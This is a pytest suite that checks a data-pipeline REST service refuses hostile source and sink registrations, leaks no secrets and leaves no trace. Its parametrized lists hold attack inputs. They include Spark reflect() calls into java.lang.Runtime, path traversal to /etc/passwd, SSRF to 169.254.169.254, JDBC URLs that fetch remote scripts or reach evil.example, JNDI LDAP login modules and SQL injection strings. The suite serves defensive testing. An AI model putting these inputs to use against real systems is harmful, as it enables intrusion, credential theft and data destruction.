"""Tests of attacks by registrations over REST, under every role and without a token.

Each is refused, with the field for roles that may register, and leaves no trace.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from anabranch_contract.connectors.policy import AccessPolicy
from anabranch_contract.protocol.progress import Mode
from anabranch_contract.protocol.registered import SourceRecord, StreamRecord
from anabranch_contract.rest.access import Role
from anabranch_contract.rest.queries import SinkRecord
from anabranch_service.registry.records import QueryRecord
from anabranch_service.settings import ServiceSettings
from tests.service.conftest import PAIR
from tests.support.worlds.access import Guarded, bearer
from tests.support.worlds.access import guarded as requiring_tokens
from tests.support.worlds.records import put
from tests.support.worlds.service import Service

COLUMNS = {"a": "string"}
SECRET = "hunter2-of-the-test"


@pytest.fixture(scope="module")
def root(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The only directory that may be read, with links that lead out of it."""
    tmp_path = tmp_path_factory.mktemp("attacks")
    home = tmp_path / "home"
    (home / "in").mkdir(parents=True)
    (home / "state").mkdir()
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside" / "secret").write_text(SECRET)
    (home / "link").symlink_to(tmp_path / "outside")
    (home / "dangling").symlink_to(tmp_path / "nothing")
    (home / "in" / "up").symlink_to("../..")
    return home


@pytest.fixture(scope="module")
def guarded(redis: str, root: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guarded]:
    access = AccessPolicy(
        paths=(str(root),),
        reserved=(str(root / "state"),),
        read_only=(str(root / "in"),),
        hosts=("broker.lan:9092", "*.db.lan", "localhost:6379"),
    )
    with _shop(redis, "guarded", access, tmp_path_factory.mktemp("tokens")) as running:
        yield running


@pytest.fixture(scope="module")
def databases(redis: str, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Guarded]:
    """A service that allows sinks of format jdbc."""
    access = AccessPolicy(formats=frozenset({"jdbc"}), hosts=("*.db.lan",))
    with _shop(redis, "databases", access, tmp_path_factory.mktemp("tokens")) as running:
        yield running


@contextmanager
def _shop(redis: str, namespace: str, access: AccessPolicy, folder: Path) -> Iterator[Guarded]:
    settings = ServiceSettings(redis_url=redis, namespace=namespace, mode=Mode.STEP, access=access)
    with requiring_tokens(settings, folder) as running:
        for stream in ("customers", "orders"):
            columns = {"customer_id": "bigint", "order_id": "bigint", "city": "string"}
            running.service.post("/v1/streams", {"name": stream, "columns": columns})
        yield running


def refused_source(
    guarded: Guarded, format: str, path: str | None = None, **options: str
) -> dict[str, Any]:
    source = {"format": format, "path": path, "options": _dotted(options)}
    body = {"name": "s", "columns": COLUMNS, "source": source}
    if format == "recorded":
        source["rows_per_batch"] = 1  # type: ignore[assignment]
    return _refused(guarded, "/v1/streams", body)


def refused_sink(
    guarded: Guarded, format: str, path: str | None = None, **options: str
) -> dict[str, Any]:
    sink = {"format": format, "path": path, "options": _dotted(options)}
    return _refused(guarded, "/v1/queries", {"id": "q", "sql": PAIR, "sink": sink})


def _refused(guarded: Guarded, path: str, body: dict[str, Any]) -> dict[str, Any]:
    """The refusal for an editor and an administrator; other roles get none of its content."""
    redis, keys = guarded.service.redis, guarded.service.keys
    kept = keys.streams if path == "/v1/streams" else keys.queries
    before = redis.hgetall(kept)
    anybody = guarded.service.http.build_request("POST", path, json=body)
    del anybody.headers["Authorization"]
    # After many requests without a token the client's address has to wait.
    assert guarded.service.http.send(anybody).status_code in (401, 429)
    found = {
        role: guarded.service.http.post(path, json=body, headers=bearer(token))
        for role, token in guarded.tokens.items()
    }
    for role in (Role.VIEWER, Role.WORKER):
        answer = found[role]
        assert (answer.status_code, answer.json()["code"]) == (403, "forbidden")
    for role in (Role.EDITOR, Role.ADMIN):
        assert found[role].status_code == 422, found[role].text
    problem: dict[str, Any] = found[Role.EDITOR].json()
    assert found[Role.ADMIN].json() == problem
    assert redis.hgetall(kept) == before
    assert problem["errors"][0]["field"]
    assert problem["remedy"]
    assert SECRET not in json.dumps(problem)
    return problem


def _dotted(options: dict[str, str]) -> dict[str, str]:
    return {name.replace("__", "."): text for name, text in options.items()}


@pytest.mark.parametrize(
    "expression",
    [
        "reflect('java.lang.System', 'getenv', 'HOME')",
        "REFLECT ('java.lang.System', 'getenv', 'HOME')",
        "java_method('java.lang.Runtime', 'getRuntime')",
        "try_reflect('java.lang.System', 'exit', 1)",
        "`reflect`('java.lang.System', 'getenv', 'HOME')",
        "system.builtin.reflect('java.lang.System', 'getenv', 'HOME')",
        "/**/reflect/**/('java.lang.System', 'getenv', 'HOME')",
        "concat(value, reflect('java.lang.System', 'getenv', 'HOME'))",
        "CASE WHEN value = '' THEN '' ELSE input_file_name() END",
        "(SELECT max(value) FROM text.`/etc/passwd`)",
        "value IN (SELECT value FROM text.`/etc/passwd`)",
        "_metadata.file_path",
        "value) AS a, reflect('x', 'y') AS (b",
        "transform(array(value), x -> reflect('a', 'b', x))[0]",
        "value; DROP TABLE x",
        "session_user()",
        "{{ value }}",
        "from_json(value, 'a int')",
    ],
)
def test_an_expression_of_a_source_runs_nothing(guarded: Guarded, expression: str) -> None:
    problem = refused_source(guarded, "kafka", column__a=expression, subscribe="x")
    assert problem["errors"][0]["field"] == "source.options.column.a"


@pytest.mark.parametrize(
    ("name", "options"),
    [
        ("schema", {"schema": "a int) , b string"}),
        ("schema", {"schema": "a struct<b: int>"}),
        ("schema", {"schema": "a int comment 'x'"}),
        ("schema", {"schema": "a int generated always as (reflect('a', 'b'))"}),
        ("Column.a", {"Column.a": "reflect('a', 'b')"}),
        ("PATH", {"PATH": "/etc"}),
        ("Path", {"Path": "/etc"}),
        ("sourceArchiveDir", {"cleanSource": "archive", "sourceArchiveDir": "/etc"}),
        ("cleanSource", {"cleanSource": "delete"}),
        ("rowValidationXSDPath", {"rowValidationXSDPath": "/etc/passwd"}),
        ("fs.s3a.endpoint", {"fs.s3a.endpoint": "http://169.254.169.254"}),
        ("compression", {"compression": "com.example.Codec"}),
        ("recursiveFileLookup", {"recursiveFileLookup": "true"}),
    ],
)
def test_options_of_files_are_those_on_the_list(
    guarded: Guarded, root: Path, name: str, options: dict[str, str]
) -> None:
    found = refused_source(guarded, "csv", str(root / "in"), **options)
    assert found["errors"][0]["field"].startswith("source.options.")


PATHS = [
    "/etc",
    "{root}/../outside",
    "{root}/in/../../outside",
    "{root}/link",
    "{root}/link/.",
    "{root}/dangling",
    "{root}/in/up/outside",
    "{root}/state",
    "{root}/in/../state",
    "{root}x",
    "file:///etc",
    "FILE:///etc",
    "file:/etc",
    "file://localhost/etc",
    "file:etc",
    "//etc",
    "/{{etc,tmp}}",
    "{root}/../out*",
    "{root}/[i]n",
    "{root}/i?",
    "{root}/in\\x",
    "hdfs://elsewhere/x",
    "hdfs:///x",
    "s3a://bucket/x",
    "s3a://key:pw@broker.lan/x",
    "http://169.254.169.254/latest",
    "jar:file:/etc/x!/y",
    "data:text/plain,x",
    "..",
    "../../../../../../etc",
    "~/x",
    "~root/x",
    "$HOME/x",
    "in/x",
    "\n/etc",
    "{root}/in\u0000/../../outside",
]


@pytest.mark.parametrize("text", PATHS)
@pytest.mark.parametrize("format", ["text", "csv"])
def test_no_file_outside_is_read(guarded: Guarded, root: Path, format: str, text: str) -> None:
    columns = {"column.a": "value"} if format == "text" else {}
    refused_source(guarded, format, text.format(root=root), **columns)


@pytest.mark.parametrize("text", [p for p in PATHS if not set(p) & set("*?[{\\") or "{root}" in p])
@pytest.mark.parametrize("format", ["files", "recorded"])
def test_no_file_outside_is_read_by_our_own_sources(
    guarded: Guarded, root: Path, format: str, text: str
) -> None:
    if set(text.format(root=root)) & set("*?[\\"):
        pytest.skip("these characters stand for themselves there")
    refused_source(guarded, format, text.format(root=root))


@pytest.mark.parametrize(
    ("text", "why"),
    [("~/x", "the ~ in '~/x' is not"), ("$HOME/x", "the $ in '$HOME/x' is"), ("in", "relative")],
)
@pytest.mark.parametrize("format", ["files", "recorded", "csv"])
def test_a_path_that_is_not_given_in_full_is_refused_for_that(
    guarded: Guarded, format: str, text: str, why: str
) -> None:
    problem = refused_source(guarded, format, text)
    assert (problem["code"], why in problem["detail"]) == ("bad-path", True)
    assert "in full" in problem["remedy"]


def test_what_stands_before_a_host_is_named(guarded: Guarded) -> None:
    problem = refused_source(guarded, "csv", "s3a://127.0.0.1@evil/x")
    assert "before its host" in problem["detail"]


def test_a_refusal_does_not_say_what_the_pipeline_keeps_where(guarded: Guarded, root: Path) -> None:
    for problem in (refused_source(guarded, "csv", "/etc"), refused_sink(guarded, "csv", "/etc")):
        assert str(root) in problem["remedy"]
        assert str(root / "state") not in problem["remedy"]


@pytest.mark.parametrize("name", ["rowsPerSecond", "ROWSPERSECOND", "numPartitions"])
@pytest.mark.parametrize("text", ["-1", "0", "x", "1.5", "", "1e3"])
def test_a_rate_is_positive(guarded: Guarded, name: str, text: str) -> None:
    problem = refused_source(guarded, "rate", column__a="cast(value as string)", **{name: text})
    assert problem["errors"][0]["field"] == f"source.options.{name}"


@pytest.mark.parametrize("text", [*PATHS, "{root}/in/x"])
def test_no_file_outside_is_written(guarded: Guarded, root: Path, text: str) -> None:
    problem = refused_sink(guarded, "json", text.format(root=root))
    assert problem["errors"][0]["field"] == "sink.path"


def test_a_refusal_does_not_say_whether_a_file_exists(guarded: Guarded, root: Path) -> None:
    there = refused_source(guarded, "csv", str(root.parent / "outside"))
    gone = refused_source(guarded, "csv", str(root.parent / "nothing"))
    linked = refused_source(guarded, "csv", str(root / "link"))
    dangling = refused_source(guarded, "csv", str(root / "dangling"))
    assert there == gone == linked == dangling


@pytest.mark.parametrize(
    "format",
    [
        "jdbc",
        "socket",
        "binaryFile",
        "Text",
        "org.apache.spark.sql.execution.datasources.text.TextFileFormat",
        "anabranch-feeds",
        "noop",
        "console",
        "memory",
        "image",
        "delta ",
    ],
)
def test_formats_are_those_on_the_list(guarded: Guarded, root: Path, format: str) -> None:
    source = refused_source(guarded, format, str(root / "in"))
    assert (source["code"], "--allow-format" in source["remedy"]) == ("format-not-allowed", True)
    refused_sink(guarded, format)


@pytest.mark.parametrize(
    "key",
    [
        "{ns}:queries",
        "{ns}:streams",
        "{ns}:runtime",
        "{ns}:x,{ns}:stream:y",
        "{ns}",
        "a, {ns}:gate",
    ],
)
@pytest.mark.parametrize("url", [None, "redis://localhost:6379/0", "redis://127.0.0.1/0"])
def test_keys_of_the_pipeline_are_reserved(guarded: Guarded, key: str, url: str | None) -> None:
    ns = guarded.service.settings.namespace
    given = {"keys": key.format(ns=ns)} | ({} if url is None else {"url": url})
    problem = refused_source(guarded, "redis-stream", **given)
    assert problem["code"] == "reserved-key"
    stream = key.format(ns=ns).split(",")[-1].strip()
    if not stream.startswith(f"{ns}:stream:"):
        refused_sink(guarded, "redis-stream", stream=stream)


def test_a_push_to_an_older_record_can_not_lock_the_registry(guarded: Guarded) -> None:
    keys = f"{guarded.service.settings.namespace}:settings"
    _old_stream(guarded.service, SourceRecord(format="redis-stream", options={"keys": keys}))
    problem = guarded.service.post("/v1/streams/old/rows", {"rows": [{"a": "x"}]}, 422)
    assert problem["code"] == "reserved-key"
    assert guarded.service.redis.exists(keys) == 0
    guarded.service.get("/v1/streams")


def test_a_push_to_a_key_of_another_type_is_the_stream_s_own_problem(guarded: Guarded) -> None:
    guarded.service.redis.hset("taken", "a", "b")
    body = {"name": "s", "columns": COLUMNS}
    source = {"format": "redis-stream", "options": {"keys": "taken"}}
    guarded.service.post("/v1/streams", {**body, "source": source})
    problem = guarded.service.post("/v1/streams/s/rows", {"rows": [{"a": "x"}]}, 409)
    assert (problem["code"], "taken" in problem["detail"]) == ("not-a-redis-stream", True)
    guarded.service.redis.delete("taken")


HOSTS = [
    ("redis-stream", "url", "redis://evil.example:6379/0"),
    ("redis-stream", "url", "redis://localhost:22/0"),
    ("redis-stream", "url", "redis://127.0.0.1:22"),
    ("redis-stream", "url", "rediss://[::1]:8080/0"),
    ("redis-stream", "url", "redis://localhost@evil.example/0"),
    ("redis-stream", "url", "redis://broker.lan:9093/0"),
    ("redis-stream", "url", "redis://localhost.evil.example/0"),
    ("redis-stream", "url", "redis://0x7f000001/0"),
    ("redis-stream", "url", "redis://localhost/0?ssl_keyfile=/etc/passwd"),
    ("redis-stream", "url", "redis://localhost/0?host=evil.example"),
    ("redis-stream", "url", "unix:///etc/redis.sock"),
    ("redis-stream", "url", "http://localhost/"),
    ("redis-stream", "url", "redis://"),
    ("redis-stream", "url", "redis://evil%2eexample/"),
    ("kafka", "brokers", "evil.example:9092"),
    ("kafka", "kafka.bootstrap.servers", "evil.example:9092"),
    ("kafka", "kafka.bootstrap.servers", "broker.lan:9092,evil.example:9092"),
    ("kafka", "kafka.bootstrap.servers", "broker.lan:9093"),
    ("kafka", "kafka.bootstrap.servers", "SSL://evil.example:9092"),
    ("kafka", "kafka.bootstrap.servers", "broker.lan"),
    ("kafka", "kafka.bootstrap.servers", "http://169.254.169.254:80"),
    ("kafka", "kafka.interceptor.classes", "x.Y"),
    ("kafka", "kafka.sasl.login.callback.handler.class", "x.Y"),
    ("kafka", "kafka.ssl.keystore.location", "/etc/passwd"),
    ("kafka", "KAFKA.SSL.TRUSTSTORE.LOCATION", "/etc/passwd"),
    ("kafka", "kafka.metric.reporters", "x.Y"),
    ("kafka", "kafka.sasl.client.callback.handler.class", "x.Y"),
    ("kafka", "kafka.config.providers", "file"),
    (
        "kafka",
        "kafka.sasl.jaas.config",
        "com.sun.security.auth.module.JndiLoginModule required"
        ' user.provider.url="ldap://evil" password="${ANABRANCH_KIND_X}";',
    ),
]


@pytest.mark.parametrize(("format", "name", "text"), HOSTS)
@pytest.mark.parametrize("kind", ["source", "sink"])
def test_no_host_class_or_file_is_reached_by_an_option(
    guarded: Guarded, kind: str, format: str, name: str, text: str
) -> None:
    kafka = {"column.a": "topic"} if kind == "source" else {"topic": "t"}
    others = kafka if format == "kafka" else {}
    options = {**others, name: text.replace("KIND", kind.upper())}
    refuse = refused_source if kind == "source" else refused_sink
    problem = refuse(guarded, format, None, **options)
    assert problem["errors"][0]["field"] == f"{kind}.options.{name}"


@pytest.mark.parametrize(
    "options",
    [
        {"url": f"jdbc:postgresql://me:{SECRET}@x.db.lan/d"},
        {"url": f"jdbc:postgresql://x.db.lan/d?password={SECRET}"},
        {"url": f"jdbc:sqlserver://x.db.lan;databaseName=d;password={SECRET}"},
        {"password": SECRET},
        {"PASSWORD": SECRET},
        {"url": "jdbc:postgresql://evil.example/d"},
        {"url": "jdbc:postgresql://x.db.lan,evil.example/d"},
        {"url": "jdbc:postgresql://x.db.lan/d?socketFactory=x.Y&socketFactoryArg=z"},
        {"url": "jdbc:postgresql://x.db.lan/d?sslkey=%2fetc%2fpasswd"},
        {"url": "jdbc:mysql://x.db.lan/d?autoDeserialize=true"},
        {"url": "jdbc:mysql://x.db.lan/d?allowLoadLocalInfile=true"},
        {"url": "jdbc:mysql://address=(host=evil.example)(port=3306)/d"},
        {"url": "jdbc:mysql://(host=evil.example,port=3306)/d"},
        {"url": "jdbc:mysql:loadbalance://evil.example/d"},
        {"url": "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil'"},
        {"url": "jdbc:derby:/etc/x;create=true"},
        {"url": "jdbc:derby:memory:x;slaveHost=evil.example"},
        {"url": "jdbc:sqlite:/etc/x"},
        {"driver": "x.Y"},
        {"dbtable": "t; DROP TABLE x"},
        {"dbtable": "(SELECT 1) x"},
        {"sessionInitStatement": "DROP TABLE x"},
        {"createTableOptions": "DATA DIRECTORY '/etc'"},
        {"anabranch.batchColumn": 'x" = "x" OR 1=1 --'},
    ],
)
def test_a_database_is_reached_in_plain_ways_only(
    databases: Guarded, options: dict[str, str]
) -> None:
    given = {"url": "jdbc:postgresql://x.db.lan/d", "dbtable": "t", **options}
    refused_sink(databases, "jdbc", None, **given)


def test_a_database_that_is_allowed_is_taken(databases: Guarded) -> None:
    options = {
        "url": "jdbc:postgresql://a.db.lan:5432/d?sslmode=require",
        "dbtable": "public.t",
        "user": "me",
        "password": "${ANABRANCH_SINK_PW}",
    }
    sink = {"format": "jdbc", "options": options}
    assert (
        databases.service.post("/v1/queries", {"sql": PAIR, "sink": sink})["sink"]["options"]
        == options
    )


@pytest.mark.parametrize(
    ("format", "name", "text"),
    [
        ("redis-stream", "url", f"redis://:{SECRET}@localhost:6379/0"),
        ("redis-stream", "url", f"redis://me:{SECRET}@localhost:6379/0"),
        ("redis-stream", "url", f"redis://{SECRET}@localhost:6379/0"),
        ("redis-stream", "url", f"rediss://{SECRET}@localhost"),
        ("redis-stream", "url", f"redis://localhost:6379/0?password={SECRET}"),
        ("kafka", "kafka.ssl.key.password", SECRET),
        (
            "kafka",
            "kafka.sasl.jaas.config",
            "org.apache.kafka.common.security.plain.PlainLoginModule required"
            f' username="u" password="{SECRET}";',
        ),
        ("csv", "nullValue", "${ANABRANCH_KIND_PASSWORD}"),
        ("csv", "nullValue", "x${ANABRANCH_KIND_PASSWORD}y"),
        ("csv", "nullValue", "${ANABRANCH_${ANABRANCH_KIND_X}}"),
        ("csv", "NULLVALUE", "${ANABRANCH_KIND_PASSWORD}"),
        ("csv", "quote", "${HOME}"),
        ("csv", "timestampFormat", "'${ANABRANCH_KIND_PASSWORD}'"),
        ("kafka", "kafka.client.id", "${ANABRANCH_KIND_PASSWORD}"),
        ("kafka", "kafka.bootstrap.servers", "${ANABRANCH_KIND_X}.evil.example:9092"),
        ("redis-stream", "url", "redis://${ANABRANCH_KIND_PASSWORD}.evil.example:6379/0"),
        ("redis-stream", "url", "redis://:${ANABRANCH_KIND_PASSWORD}@evil.example:6379/0"),
        ("redis-stream", "url", "redis://:${ANABRANCH_OTHER_PASSWORD}@localhost:6379/0"),
        ("redis-stream", "url", "redis://:${anabranch_kind_password}@localhost:6379/0"),
        ("redis-stream", "url", "redis://:${ANABRANCH_REDIS_URL}@localhost:6379/0"),
    ],
)
@pytest.mark.parametrize("kind", ["source", "sink"])
def test_secrets_are_references_in_options_for_secrets(
    guarded: Guarded, root: Path, kind: str, format: str, name: str, text: str
) -> None:
    refuse = refused_source if kind == "source" else refused_sink
    path = str(root / ("in" if kind == "source" else "out")) if format == "csv" else None
    options = {name: text.replace("KIND", kind.upper()).replace("kind", kind)}
    problem = refuse(guarded, format, path, **options)
    assert problem["errors"][0]["field"] == f"{kind}.options.{name}"


def test_secrets_of_records_that_others_wrote_are_not_shown(guarded: Guarded) -> None:
    url, options = f"redis://me:{SECRET}@localhost/0", {"kafka.ssl.key.password": SECRET}
    _old_stream(guarded.service, SourceRecord(format="redis-stream", options={"url": url}))
    made = guarded.service.post("/v1/queries", {"id": "kept", "sql": PAIR})
    kept = json.loads(str(guarded.service.redis.hget(guarded.service.keys.queries, "kept")))
    jdbc = f"jdbc:sqlserver://x;user=u;password={SECRET};encrypt=true"
    for name, sink in {
        "kept": SinkRecord(format="kafka", options=options),
        "r": SinkRecord(format="jdbc", options={"url": jdbc}),
    }.items():
        record = QueryRecord.model_validate({**kept, "id": name, "sink": sink.model_dump()})
        put(guarded.service.redis, guarded.service.keys, "queries", name, record.model_dump_json())
    assert made["sink"]["format"] == "parquet"
    shown = [
        guarded.service.get(f"/v1/{part}")
        for part in ("streams", "queries", "queries/kept", "streams/old")
    ]
    shown.append(guarded.service.get("/v1/queries/r"))
    assert SECRET not in json.dumps(shown)
    assert "password=***;encrypt=true" in json.dumps(shown)
    refused = guarded.service.call("PATCH", "/v1/streams/old", 422, {"on_loss": "skip"})
    assert refused["code"] == "secret-in-source"
    assert SECRET not in json.dumps(refused)


def test_two_spellings_of_a_path_are_one_sink(guarded: Guarded, root: Path) -> None:
    (root / "alias").symlink_to(root / "shared")
    sink = {"format": "json", "path": str(root / "shared")}
    guarded.service.post("/v1/queries", {"id": "first", "sql": PAIR, "sink": sink})
    for path in ("shared/", "a/../shared", "./shared", "alias", "shared/."):
        body = {"sql": PAIR, "sink": {**sink, "path": f"{root}/{path}"}}
        assert guarded.service.post("/v1/queries", body, 409)["code"] == "sink-in-use", path
    body = {"sql": PAIR, "sink": {**sink, "path": f"file://{root}/shared"}}
    assert guarded.service.post("/v1/queries", body, 409)["code"] == "sink-in-use"


def test_an_expression_of_a_column_is_no_secret_for_its_name(guarded: Guarded) -> None:
    options = {"rowsPerSecond": "1", "column.token": "cast(value as string)"}
    body = {
        "name": "with_token",
        "columns": {"token": "string"},
        "source": {"format": "rate", "options": options},
    }
    assert guarded.service.post("/v1/streams", body)["source"]["options"] == options


def test_what_is_allowed_goes_through(guarded: Guarded, root: Path) -> None:
    kafka = {"kafka.bootstrap.servers": "broker.lan:9092,[::1]:9092", "subscribe": "x"}
    for number, source in enumerate(
        [
            {"format": "csv", "path": str(root / "in"), "options": {"header": "true"}},
            {"format": "csv", "path": f"file://{root}/in/../in"},
            {"format": "files", "path": str(root)},
            {"format": "kafka", "options": {**kafka, "column.a": "cast(value as string)"}},
            {
                "format": "redis-stream",
                "options": {"url": "redis://:${ANABRANCH_SOURCE_PW}@localhost"},
            },
            {"format": "redis-stream", "options": {"url": "${ANABRANCH_SOURCE_URL}"}},
            {"format": "redis-stream", "options": {"keys": "orders,other:queries"}},
        ]
    ):
        body = {"name": f"s{number}", "columns": COLUMNS, "source": source}
        guarded.service.post("/v1/streams", body)
    for sink in (
        {"format": "json", "path": str(root / "out")},
        {"format": "redis-stream", "options": {"stream": "results"}},
        {"format": "redis-stream", "options": {"url": guarded.service.settings.redis_url}},
        {"format": "csv", "path": str(root / "o2"), "options": {"nullValue": "none", "sep": ";"}},
    ):
        guarded.service.post("/v1/queries", {"sql": PAIR, "sink": sink})


def _old_stream(service: Service, source: SourceRecord) -> None:
    """Return a record that no registration would make."""
    columns = [{"name": "a", "type": "string"}]
    record = StreamRecord.model_validate({"name": "old", "columns": columns, "source": source})
    put(service.redis, service.keys, "streams", "old", record.model_dump_json())
